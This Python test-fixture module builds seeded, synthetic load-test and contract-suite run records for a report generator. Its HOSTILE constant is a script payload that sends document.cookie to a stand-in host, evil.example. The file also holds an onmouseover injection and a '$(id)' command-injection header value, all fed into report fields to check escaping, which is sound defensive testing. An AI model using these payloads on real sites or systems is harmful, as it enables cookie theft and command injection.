"""Makes run records as two shared cores give them, the same ones every time."""

import math
import random
from collections.abc import Sequence
from datetime import UTC, datetime
from functools import cache

from msgspec.structs import replace

from reports.record import latency
from reports.record.failures import RecordedRequest, body
from reports.record.measurements import Node, Timeline
from reports.record.record import (
    Check,
    Conditions,
    Configuration,
    E2eRun,
    Endpoint,
    Floor,
    Histograms,
    Level,
    LoadRun,
    Phase,
    Repetition,
)
from tests.unit.reports import sample_courses

HOSTILE = (
    '<script>fetch("http://evil.example/" + document.cookie)</script> \'"><img src=x> \x1b[31m'
)
HOSTILE_NAME = 'GET /clients?<b onmouseover="x()">&surname=O\'Hara'

CRUD_ENDPOINTS = (
    "list clients",
    "read a client",
    "create a client",
    "delete a client",
    "list goods",
)
SUPPLIER_ENDPOINTS = ("availability",)
# Cores that the generator kept busy, and something that is not of the run.
GENERATOR_CPU = 0.22
OTHERS_CPU = 0.05
POINTS = ((1, 1), (1, 2), (2, 1), (2, 2))
CRUD_MAXIMUM = {(1, 1): 502.0, (1, 2): 497.0, (2, 1): 511.0, (2, 2): 506.0}
SUPPLIER_MAXIMUM = {(1, 1): 88.0, (1, 2): 131.0, (2, 1): 94.0, (2, 2): 169.0}


def conditions(**changes: object) -> Conditions:
    """Return the conditions of a run on the containers engine."""
    usual = Conditions(
        engine="containers",
        network_mode="bridge",
        cpu_model="AMD EPYC 7763 64-Core Processor",
        cpu_count=2,
        kernel="Linux 6.8.0-45-generic",
        python="3.13.5",
        rabbitmq="4.0.5",
        erlang="27.3.4",
        commit="a3fcd79b01c2",
        packages={"aio-pika": "10.2.1", "fastapi": "0.165.0", "locust": "2.47.0"},
        details={"image gateway": "sha256:5d0f3c9e", "image broker": "sha256:77ab01c4"},
    )
    return replace(usual, **changes)


def phase(  # noqa: PLR0913 -- every figure of a phase can be asked for
    *,
    arrivals: str = "poisson",
    rate_per_s: float = 351.0,
    duration_s: float = 6.0,
    middle_ms: float = 12.0,
    busy: float = 0.7,
    workers: int = 1,
    endpoints: Sequence[str] = CRUD_ENDPOINTS,
    seed: int = 1,
    **changes: object,
) -> Phase:
    """Return a phase whose latencies are drawn from a log-normal with a slow tail."""
    chance = random.Random(seed)  # noqa: S311 -- not for secrets
    rpc, service = latency.new_histogram(), latency.new_histogram()
    parts = {name: latency.new_histogram() for name in endpoints}
    samples = round(rate_per_s * duration_s)
    seconds = [latency.new_histogram() for _ in range(math.ceil(duration_s))]
    for index in range(samples):
        tail = 0.9 if index % 10 == 0 else 0.5
        http_us = 1_000 * middle_ms * chance.lognormvariate(0, tail)
        second = seconds[int(index / samples * duration_s)]
        for histogram in (second, parts[endpoints[index % len(endpoints)]]):
            latency.record_us(histogram, http_us)
        latency.record_us(rpc, http_us * chance.uniform(0.6, 0.85))
        latency.record_us(service, http_us * chance.uniform(0.9, 1.0))
    total = latency.merge(seconds)
    closed = arrivals == "closed"
    reasons = (
        {
            "offered_per_s": "a closed loop offers no rate",
            "lag_ms_p99": "a closed loop has no intended starts",
        }
        if closed
        else {"users": "an open loop has no users"}
    )
    usual = Phase(
        arrivals=arrivals,
        users=16 if closed else None,
        duration_s=duration_s,
        offered_per_s=None if closed else rate_per_s,
        achieved_per_s=rate_per_s,
        throughput_per_s=rate_per_s,
        samples=samples,
        failed=0,
        unknown=0,
        latency_ms=latency.summary(total),
        rpc_ms=latency.summary(rpc),
        host_cpu=busy,
        generator_cpu=GENERATOR_CPU,
        lag_ms_p99=None if closed else 2.4,
        worker_shares={
            "srv_clients": _shares(workers, chance),
            "srv_goods": _shares(workers, chance),
        },
        histograms=Histograms(
            total=latency.encode(total),
            rpc=latency.encode(rpc),
            service_time=latency.encode(service),
            seconds=tuple(map(latency.encode, seconds)),
            endpoints={name: latency.encode(histogram) for name, histogram in parts.items()},
        ),
        endpoints=tuple(
            Endpoint(
                name=name,
                samples=latency.summary(histogram).samples,
                failed=0,
                latency_ms=latency.summary(histogram),
            )
            for name, histogram in parts.items()
        ),
        errors={},
        levels=_levels(rate_per_s, middle_ms, chance) if closed else (),
        hops=sample_courses.breakdowns(middle_ms, samples),
        slowest=sample_courses.slowest(middle_ms, endpoints[0], chance),
        timeline=sample_courses.timeline(len(seconds), rate_per_s, middle_ms, chance),
        used=sample_courses.used(duration_s, rate_per_s, 2 * busy - GENERATOR_CPU - OTHERS_CPU),
        loop_gap_ms_max=11.0,
        reasons=reasons,
    )
    return replace(usual, **changes)


@cache
def configuration(  # noqa: PLR0913 -- a point, and what it does
    scenario: str,
    point: tuple[int, int],
    *,
    maximum: float,
    common: float,
    middle_ms: float,
    repetitions: int = 1,
) -> Configuration:
    """Return one point of a sweep; from one repetition to the next, its figures vary."""
    resolvers, workers = point
    return Configuration(
        scenario=scenario,
        resolvers=resolvers,
        service_workers=workers,
        gateway_workers=1,
        prefetch=32,
        repetitions=tuple(
            _repetition(scenario, point, number, maximum, common, middle_ms)
            for number in range(repetitions)
        ),
    )


def _repetition(  # noqa: PLR0913, PLR0917 -- as above
    scenario: str,
    point: tuple[int, int],
    number: int,
    maximum: float,
    common: float,
    middle_ms: float,
) -> Repetition:
    """Return one pass: only the first one looks at 70 % of the configuration's own maximum."""
    crud, seed = scenario == "crud", point[0] * 10 + point[1] + 100 * number
    chance = random.Random(seed)  # noqa: S311 -- not for secrets
    slower, faster = (chance.lognormvariate(0, spread) if number else 1.0 for spread in (0.1, 0.02))

    def made(
        rate_per_s: float,
        busy: float,
        arrivals: str = "poisson",
        slow: float = 1.0,
        duration_s: float = 6.0,
    ) -> Phase:
        return phase(
            duration_s=duration_s,
            arrivals=arrivals,
            rate_per_s=rate_per_s,
            middle_ms=middle_ms * slow * slower,
            busy=busy,
            workers=point[1],
            endpoints=CRUD_ENDPOINTS if crud else SUPPLIER_ENDPOINTS,
            seed=seed,
        )

    return Repetition(
        warm_up=made(common, 0.6, slow=1.5, duration_s=3.0),
        closed=made(maximum * faster, 0.98 if crud else 0.44, "closed", 2.4, 3.0),
        open=None if number else made(maximum * 0.7, 0.74 if crud else 0.35, slow=1.2),
        common=made(common, 0.71 if crud else 0.31),
        warmed=sample_courses.warmed(common, middle_ms),
        reasons={"open": "measured in the first repetition only"} if number else {},
    )


def load_run(
    points: Sequence[tuple[int, int]] = POINTS, repetitions: int = 1, **changes: object
) -> LoadRun:
    """Return a sweep over two scenarios: one bound by the CPU, one by waiting."""
    crud = [
        configuration(
            "crud",
            point,
            maximum=CRUD_MAXIMUM.get(point, 500.0),
            common=351.0,
            middle_ms=11.0 + 4 * sum(point),
            repetitions=repetitions,
        )
        for point in points
    ]
    supplier = [
        configuration(
            "supplier",
            point,
            maximum=SUPPLIER_MAXIMUM.get(point, 200.0),
            common=61.6,
            middle_ms=52.0 / point[1],
            repetitions=repetitions,
        )
        for point in points
    ]
    usual = LoadRun(
        started_at=datetime(2026, 11, 24, 10, 11, 50, tzinfo=UTC),
        duration_s=391.4,
        command="nox -s load -- --resolvers 1,2 --workers 1,2 --seed 1",
        seed=1,
        stack="reference",
        conditions=conditions(),
        ready_s={"broker": 4.1, "gateway": 1.3, "resolver": 0.6, "stack": 7.2},
        scenarios={
            "crud": "Reads with a limit, writes paired with deletes, on both services.",
            "supplier": "Availability calls, which wait for a supplier: time passes without CPU.",
        },
        floor=floor(),
        configurations=(*crud, *supplier),
    )
    return replace(usual, **changes)


def changed(run: LoadRun, name: str, **changes: object) -> LoadRun:
    """Return a run in whose every repetition a phase is changed."""

    def other(one: Repetition) -> Repetition:
        return replace(one, **{name: replace(getattr(one, name), **changes)})

    return replace(
        run,
        configurations=tuple(
            replace(one, repetitions=tuple(map(other, one.repetitions)))
            for one in run.configurations
        ),
    )


@cache
def floor() -> Floor:
    """Return what a generator adds of its own: well under a millisecond, with a thin tail."""
    chance, histogram = random.Random(3), latency.new_histogram()  # noqa: S311 -- not for secrets
    for _ in range(5_000):
        latency.record_us(histogram, 1_000 * (0.35 + chance.expovariate(3)))
    return Floor(
        rate_per_s=500.0,
        most_per_s=2_310.0,
        latency_ms=latency.summary(histogram),
        histogram=latency.encode(histogram),
    )


def target_run() -> LoadRun:
    """Return a run against a server that was up: one open phase, and nothing known of its parts."""
    measured = phase(rate_per_s=200.0, duration_s=30.0, middle_ms=4.0, endpoints=("GET /x",))
    none = dict.fromkeys(("warm_up", "closed", "common"), "a target is measured at its rate alone")
    bare = replace(
        measured,
        hops=(),
        slowest=(),
        used={},
        worker_shares={},
        rpc_ms=None,
        timeline=Timeline(in_flight=measured.timeline.in_flight),
        histograms=replace(measured.histograms, rpc=None),
        reasons=measured.reasons | {"rpc_ms": "the target names no hop"},
    )
    only = Repetition(warm_up=None, closed=None, open=bare, common=None, reasons=none)
    one = replace(
        configuration("crud", (1, 1), maximum=502.0, common=351.0, middle_ms=19.0),
        scenario="requests",
        repetitions=(only,),
    )
    return load_run(
        points=[(1, 1)],
        command="nox -s load -- --target http://127.0.0.1:9000 --request 'GET /x' --rate 200",
        stack="http://127.0.0.1:9000",
        target="http://127.0.0.1:9000",
        scenarios={"requests": "GET /x"},
        configurations=(one,),
        ready_s={},
    )


def hostile_load_run() -> LoadRun:
    """Return a sweep whose error reasons, endpoint names and settings are meant to do harm."""
    run = load_run()
    first = run.configurations[0]
    common = phase(middle_ms=19.0, seed=11)
    bad = replace(
        common,
        failed=41,
        errors={HOSTILE: 40, "x" * 5_000: 1} | {f"reason {number}": 1 for number in range(60)},
        endpoints=(*common.endpoints, replace(common.endpoints[0], name=HOSTILE_NAME)),
        slowest=(
            replace(common.slowest[0], endpoint=HOSTILE_NAME, trace_id=HOSTILE),
            *common.slowest[1:],
        ),
        hops=tuple(replace(one, hops_ms=one.hops_ms | {HOSTILE: 0.2}) for one in common.hops),
        timeline=replace(
            common.timeline,
            parts=common.timeline.parts | {HOSTILE: common.timeline.parts["broker"]},
        ),
        used=common.used | {HOSTILE: common.used["broker"]},
        worker_shares={"srv_clients": {HOSTILE: 0.93, "srv_clients/8": 0.07}},
    )
    node = Node(name=HOSTILE, cores=2.0, here=True, copies={HOSTILE: 1})
    worse = replace(first, repetitions=(replace(first.repetitions[0], common=bad, nodes=(node,)),))
    return replace(
        run,
        command=f"nox -s load -- --scenario '{HOSTILE}'",
        scenarios=run.scenarios | {"crud": HOSTILE},
        configurations=(worse, *run.configurations[1:]),
    )


def e2e_run(checks: Sequence[Check] | None = None, **changes: object) -> E2eRun:
    """Return a run of the contract suite; without checks given, all is well but two."""
    kept = [
        Check(name=name, verdict="pass", sentence=sentence, seconds=2.0 + number)
        for number, (name, sentence) in enumerate(
            {
                "golden trial": "The six calls of the trial gave the same answers both ways.",
                "srv_clients as its schema says": "412 generated requests, seeded and empty data.",
                "srv_goods as its schema says": "388 generated requests, seeded and empty data.",
                "no responder": "503 no_responder after 9 ms with every resolver killed.",
            }.items()
        )
    ]
    broken = Check(
        name=f"parity {HOSTILE_NAME}",
        verdict="fail",
        sentence=f"The gateway answered 500 where the service answers 422: {HOSTILE}",
        seconds=0.4,
        request=RecordedRequest(
            method="POST",
            target="/clients",
            headers={"x-a": "'$(id)'"},
            body=body(HOSTILE.encode()),
        ),
    )
    void = Check(
        name="service stopped", verdict="unknown", sentence="The check raised OSError.", seconds=5.1
    )
    usual = E2eRun(
        started_at=datetime(2026, 11, 24, 9, 2, 11, tzinfo=UTC),
        duration_s=84.0,
        command="nox -s e2e",
        seed=1,
        stack="reference",
        conditions=conditions(engine="processes", network_mode="host"),
        checks=tuple(checks) if checks is not None else (*kept, broken, void),
        cases=800,
        junit="junit.xml",
    )
    return replace(usual, **changes)


def _shares(workers: int, chance: random.Random) -> dict[str, float]:
    weights = [chance.uniform(0.9, 1.1) for _ in range(workers)]
    return {f"{4_000 + index}": weight / sum(weights) for index, weight in enumerate(weights)}


def _levels(maximum: float, middle_ms: float, chance: random.Random) -> tuple[Level, ...]:
    """Return the doubling steps up to a maximum, as Little's law would have them."""
    levels = []
    for users in (1, 2, 4, 8, 16):
        rate_per_s = min(maximum, users * 1_000 / (middle_ms / 1.6)) * chance.uniform(0.97, 1.0)
        histogram = latency.new_histogram()
        for _ in range(round(rate_per_s)):
            latency.record_us(histogram, users / rate_per_s * 1e6 * chance.lognormvariate(0, 0.4))
        levels.append(
            Level(
                users=users,
                duration_s=1.0,
                throughput_per_s=rate_per_s,
                samples=latency.summary(histogram).samples,
                failed=0,
                latency_ms=latency.summary(histogram),
            )
        )
    return tuple(levels)
